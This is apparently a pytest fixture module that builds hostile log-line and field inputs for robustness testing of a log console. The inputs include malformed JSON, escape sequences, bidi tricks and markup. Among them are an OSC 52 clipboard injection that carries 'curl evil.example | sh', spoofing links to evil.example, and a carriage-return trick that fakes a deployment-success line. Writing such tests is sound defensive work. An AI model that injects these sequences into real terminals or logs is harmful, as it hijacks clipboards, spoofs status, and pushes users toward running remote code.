"""Hostile inputs: what a log line, a JSON service log or a field can throw at the console.

Built in code (the 10 MB line and the 10,000-deep JSON would be silly to commit). Each entry
is raw bytes of one input as it would sit in a log file; most are one physical line, a few
(continuation lines, CRLF) are several.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

import pytest

HUGE_LINE = 10 * 1024 * 1024
DEEP = 10_000


@dataclass(frozen=True)
class Nasty:
    name: str
    data: bytes
    # A token that appears in the entry's text, so a test can find it again after import
    # (None where the entry is only structure, e.g. deep JSON or a line of spaces).
    marker: str | None = None


def _entry(n: int, text: str) -> str:
    return f"[09:31:{n % 60:02d}] [INFO] {text}"


def _json(**fields: str) -> bytes:
    inner = ",".join(f'"{k}":{v}' for k, v in fields.items())
    return ("{" + inner + "}").encode()


def hostile_corpus() -> list[Nasty]:
    osc52 = base64.b64encode(b"curl evil.example | sh").decode()
    items = [
        Nasty("invalid_utf8", _entry(1, "bytes ").encode() + b"\xff\xfe\xc3\x28 mk01", "mk01"),
        Nasty("nul", _entry(2, "nul\x00byte mk02").encode(), "mk02"),
        Nasty("huge_line", _entry(3, "mk03 ").encode() + b"x" * HUGE_LINE, "mk03"),
        Nasty("deep_json_array", b"[" * DEEP + b"]" * DEEP),
        Nasty("deep_json_object", b'{"a":' * DEEP + b"1" + b"}" * DEEP),
        Nasty(
            "huge_int",
            _json(
                timestamp='"2024-11-21T09:31:04Z"',
                level='"INFO"',
                message='"mk04"',
                n="1" + "0" * 400,
            ),
            "mk04",
        ),
        # Beyond Python's int-to-str digit limit (4300): json.loads raises ValueError.
        Nasty(
            "huge_int_5000_digits",
            _json(
                timestamp='"2024-11-21T09:31:05Z"', level='"INFO"', message='"mk05"', n="9" * 5000
            ),
            "mk05",
        ),
        Nasty(
            "huge_float",
            _json(timestamp='"2024-11-21T09:31:06Z"', message='"mk06"', value="1e400"),
            "mk06",
        ),
        Nasty(
            "nan_infinity",
            _json(
                timestamp='"2024-11-21T09:31:07Z"',
                message='"mk07"',
                value="NaN",
                hi="Infinity",
                lo="-Infinity",
            ),
            "mk07",
        ),
        Nasty("year_1", _json(timestamp='"0001-01-01T00:00:00Z"', message='"mk08"'), "mk08"),
        Nasty("year_9999", _json(timestamp='"9999-12-31T23:59:59Z"', message='"mk09"'), "mk09"),
        Nasty("epoch_1e20", _json(ts="1e20", message='"mk10"'), "mk10"),
        Nasty("epoch_negative", _json(ts="-1e20", level='"WARN"', message='"mk11"'), "mk11"),
        Nasty("mojibake", _entry(12, "âœ… Deployment verified â€” mk12").encode(), "mk12"),
        Nasty(
            "csi",
            _entry(13, "\x1b[2J\x1b[H\x1b[31mred\x1b[0m \x1b[?1049h\x1b[6n mk13").encode(),
            "mk13",
        ),
        Nasty("osc52_clipboard", _entry(14, f"\x1b]52;c;{osc52}\x07 mk14").encode(), "mk14"),
        Nasty(
            "osc_title_hyperlink",
            _entry(
                15, "\x1b]0;pwned\x07\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ mk15"
            ).encode(),
            "mk15",
        ),
        Nasty("dcs", _entry(16, "\x1bP+q544e\x1b\\ \x1bPq#0;2;0;0;0\x1b\\ mk16").encode(), "mk16"),
        # CSI as the single C1 code point U+009B (UTF-8 C2 9B) and as a raw 0x9B byte.
        Nasty("c1_csi", _entry(17, "\u009b2J mk17 ").encode() + b"\x9b31m", "mk17"),
        Nasty(
            "bidi",
            _entry(18, "user \u202eexe.tpircs\u202c \u2066iso\u2069 \u200f\u061c mk18").encode(),
            "mk18",
        ),
        Nasty(
            "rich_markup",
            _entry(
                19, "[bold red]x[/] [link=https://evil.example]go[/link] [@click=app.quit]q[/] mk19"
            ).encode(),
            "mk19",
        ),
        Nasty(
            "crlf", (_entry(20, "crlf mk20") + "\r\n" + _entry(20, "next mk20b")).encode(), "mk20"
        ),
        Nasty("lone_cr", _entry(21, "progress 10%\rprogress 100% mk21").encode(), "mk21"),
        Nasty("form_feed_vtab", _entry(22, "page\x0cbreak\x0bvtab mk22").encode(), "mk22"),
        Nasty(
            "zero_width",
            _entry(23, "👩\u200d💻 zero\u200bwidth\u200djoiner \ufeffbom mk23").encode(),
            "mk23",
        ),
        Nasty("only_spaces", b" " * 80),
        Nasty(
            "thousand_continuations",
            "\n".join(
                [_entry(24, "Observation mk24:")]
                + [f"  - item {i}: value {i}" for i in range(1000)]
            ).encode(),
            "mk24",
        ),
        Nasty("json_array", b'[1, 2, "mk25", {"level": "ERROR"}]', "mk25"),
        Nasty(
            "truncated_json",
            b'{"timestamp":"2024-11-21T09:31:26Z","level":"ERROR","message":"cut mk26',
            "mk26",
        ),
        Nasty("bel_del", _entry(27, "\x07\x07\x7f bell mk27").encode(), "mk27"),
        Nasty("json_scalar", b'"just a string mk28"', "mk28"),
        Nasty(
            "json_lone_surrogate",
            b'{"timestamp":"2024-11-21T09:31:29Z","message":"\\ud800 lone mk29"}',
            "mk29",
        ),
        Nasty("escape_in_level", b"[09:31:30] [\x1b[31mERROR\x1b[0m] level mk30", "mk30"),
        Nasty(
            "long_key",
            b'{"' + b"k" * 100_000 + b'":1,"message":"mk31"}',
            "mk31",
        ),
        Nasty("bad_clock", b"[99:99:99] [INFO] no such time mk32", "mk32"),
        Nasty(
            "json_null_fields", b'{"timestamp":null,"level":null,"message":null,"x":"mk33"}', "mk33"
        ),
    ]
    return items


def corpus_file_bytes(items: list[Nasty]) -> bytes:
    """All entries one after another, as one log file (a blank line between entries)."""
    return b"\n\n".join(i.data for i in items) + b"\n"


def hostile_texts() -> list[str]:
    """Short hostile values for the fields an agent, a log or an operator fills (a gate id,
    an operator, a reason, a reply's detail, a service name, a finding): every terminal
    control the attack pass used, Rich markup and Markdown structure. Each holds a marker
    ``hx..`` so a test can find where it went."""
    osc52 = base64.b64encode(b"curl evil.example | sh").decode()
    return [
        "hx01 \x1b[2J\x1b[H cleared",
        f"hx02 \x1b]52;c;{osc52}\x07 clipboard",
        "hx03 \x1b]0;pwned\x07 title \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
        "hx04 bell\x07\x07 del\x7f nul\x00",
        "hx05 \u009b2J c1 csi \u009d0;t\u009c \u0085nel",
        "hx06 \x1bP+q544e\x1b\\ dcs",
        "hx07 user \u202eexe.tpircs\u202c \u2066iso\u2069 \u200f",
        "hx08 [bold red]x[/] [link=https://evil.example]go[/link] [@click=app.quit]q[/]",
        "hx09 | a | b |\n|---|---|\n# Heading <script>alert(1)</script> [click](javascript:x)",
        "hx10 ok\n[09:45:10] [SUCCESS] Deployment complete\rDEPLOYMENT STATUS: SUCCEEDED",
        "hx11 sep\u2028line\u2029para \x0bvt\x0cff",
        "hx12 lone \ud800 surrogate \udcff",
        "hx13 *bold* _em_ `code` ~~strike~~ &lt;b&gt; &#27;",
    ]


@pytest.fixture(scope="session")
def corpus() -> list[Nasty]:
    """The hostile inputs, built in code (the 10 MB line is not committed anywhere)."""
    return hostile_corpus()
